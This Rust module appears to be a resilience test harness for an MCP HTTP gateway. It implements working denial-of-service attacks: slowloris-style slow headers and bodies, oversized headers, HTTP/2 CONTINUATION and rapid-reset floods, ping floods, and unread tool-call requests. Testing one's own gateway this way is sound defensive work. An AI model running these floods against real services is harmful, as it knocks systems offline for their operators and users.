//! The attacks. Each ends when it has done what it can: the gateway has ended its connections, or taken all it sent.

use super::frames;
use futures_util::StreamExt;
use std::net::SocketAddr;
use std::sync::Arc;
use std::time::Duration;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio::task::JoinSet;

/// Far longer than any connection of an attack lives.
const PATIENCE: Duration = Duration::from_mins(3);
/// Streams that nobody reads are held open for so long.
const SIEGE: Duration = Duration::from_secs(15);

#[derive(Debug)]
pub struct Target {
    pub address: SocketAddr,
    pub path: String,
    pub token: String,
}

impl Target {
    async fn connect(&self) -> Option<TcpStream> {
        TcpStream::connect(self.address).await.ok()
    }

    fn head(&self, more: &str) -> String {
        format!(
            "POST {} HTTP/1.1\r\nhost: {}\r\nauthorization: Bearer {}\r\ncontent-type: application/json\r\naccept: application/json, text/event-stream\r\n{more}",
            self.path, self.address, self.token
        )
    }

    fn reset(&self, stream: u32) -> Vec<u8> {
        frames::reset_at_once(stream, &self.path, &self.address.to_string(), &self.token)
    }
}

/// Runs it so many times at once, and waits for the end of all.
async fn at_once<F>(target: &Arc<Target>, many: usize, one: impl Fn(Arc<Target>) -> F)
where
    F: Future<Output = ()> + Send + 'static,
{
    let mut all = JoinSet::new();
    for _ in 0..many {
        all.spawn(one(Arc::clone(target)));
    }
    while let Some(ended) = all.join_next().await {
        ended.expect("an attack does not panic");
    }
}

/// Writes these bytes one by one, one a second, until the other end has had enough.
async fn drip(mut stream: TcpStream, bytes: &[u8]) {
    let drip = async {
        for byte in bytes.iter().cycle() {
            if stream.write_all(&[*byte]).await.is_err() {
                return;
            }
            let mut said = [0; 1024];
            let wait = tokio::time::timeout(Duration::from_secs(1), stream.read(&mut said));
            if let Ok(Ok(0) | Err(_)) = wait.await {
                return;
            }
        }
    };
    let ended = tokio::time::timeout(PATIENCE, drip).await;
    ended.expect("the gateway has had enough at last");
}

pub async fn slow_headers(target: &Arc<Target>, many: usize) {
    at_once(target, many, |target| async move {
        if let Some(mut stream) = target.connect().await {
            let _ = stream.write_all(target.head("x-slow: ").as_bytes()).await;
            drip(stream, b"y").await;
        }
    })
    .await;
}

pub async fn slow_bodies(target: &Arc<Target>, many: usize) {
    at_once(target, many, |target| async move {
        if let Some(mut stream) = target.connect().await {
            let head = target.head("content-length: 1000000\r\n\r\n");
            let _ = stream.write_all(head.as_bytes()).await;
            drip(stream, b" ").await;
        }
    })
    .await;
}

/// Headers as long as they get, by many at once.
pub async fn long_headers(target: &Arc<Target>, many: usize) {
    let long = Arc::new(format!("x-long: {}\r\n", "y".repeat(4_000)));
    at_once(target, many, move |target| {
        let long = Arc::clone(&long);
        async move {
            let Some(mut stream) = target.connect().await else {
                return;
            };
            let _ = stream.write_all(target.head("").as_bytes()).await;
            for _ in 0..100 {
                if stream.write_all(long.as_bytes()).await.is_err() {
                    return;
                }
            }
        }
    })
    .await;
}

/// Sends until the other end has had enough.
async fn pour(
    mut stream: TcpStream,
    first: Vec<u8>,
    piece: impl Fn(usize) -> Option<Vec<u8>>,
) -> usize {
    let mut sent = 0;
    if stream.write_all(&first).await.is_err() {
        return sent;
    }
    while let Some(piece) = piece(sent) {
        // What the gateway says is not read: it has to bear that, too.
        match tokio::time::timeout(SIEGE, stream.write_all(&piece)).await {
            Ok(Ok(())) => sent += 1,
            Ok(Err(_)) | Err(_) => break,
        }
    }
    sent
}

fn greeting() -> Vec<u8> {
    let mut first = frames::PREFACE.to_vec();
    first.extend(frames::settings());
    first
}

/// Headers of HTTP/2 that go on and on.
pub async fn continuations(target: &Arc<Target>, many: usize) {
    at_once(target, many.max(1), |target| async move {
        if let Some(stream) = target.connect().await {
            let mut first = greeting();
            let authority = target.address.to_string();
            first.extend(frames::headers_begin(
                &target.path,
                &authority,
                &target.token,
            ));
            pour(stream, first, |sent| {
                (sent < 1_000).then(frames::headers_go_on)
            })
            .await;
        }
    })
    .await;
}

/// Requests that are reset as soon as they are made, on as many connections as it takes.
pub async fn resets(target: &Arc<Target>, many: usize) {
    const PIECE: usize = 50;
    let mut left = many;
    while left > 0 {
        let Some(stream) = target.connect().await else {
            return;
        };
        let sent = pour(stream, greeting(), |sent| {
            let of = |index: usize| u32::try_from((sent * PIECE + index) * 2 + 1).ok();
            let piece = (0..PIECE)
                .filter_map(of)
                .flat_map(|stream| target.reset(stream));
            (sent * PIECE < left).then(|| piece.collect())
        })
        .await;
        left = left.saturating_sub((sent * PIECE).max(1));
    }
}

/// Questions that want an answer at once, from somebody who reads none.
pub async fn pings(target: &Arc<Target>, many: usize) {
    for frame in [frames::ping(), frames::settings()] {
        if let Some(stream) = target.connect().await {
            let piece = frame.repeat(100);
            pour(stream, greeting(), |sent| {
                (sent * 100 < many).then(|| piece.clone())
            })
            .await;
        }
    }
}

/// Calls of a tool of the hostile server whose answers nobody reads.
pub async fn unread(target: &Arc<Target>, tool: &str, many: usize) {
    asked(target, tool, "{}", many).await;
}

/// Questions of as many values as are read, of a tool that does not answer.
pub async fn wide_bodies(target: &Arc<Target>, many: usize) {
    let values = "0,".repeat(mcp::MOST_VALUES - 20);
    let arguments = format!(r#"{{"list":[{values}0]}}"#);
    asked(target, "dripping", &arguments, many).await;
}

async fn asked(target: &Arc<Target>, tool: &str, arguments: &str, many: usize) {
    let call = format!(
        r#"{{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{{"name":"{tool}","arguments":{arguments}}}}}"#
    );
    let request = target.head(&format!("content-length: {}\r\n\r\n{call}", call.len()));
    let open = futures_util::stream::iter(0..many)
        .map(|_| async {
            let mut stream = target.connect().await?;
            stream.write_all(request.as_bytes()).await.ok()?;
            Some(stream)
        })
        .buffer_unordered(64)
        .collect::<Vec<_>>()
        .await;
    tokio::time::sleep(SIEGE).await;
    drop(open);
}
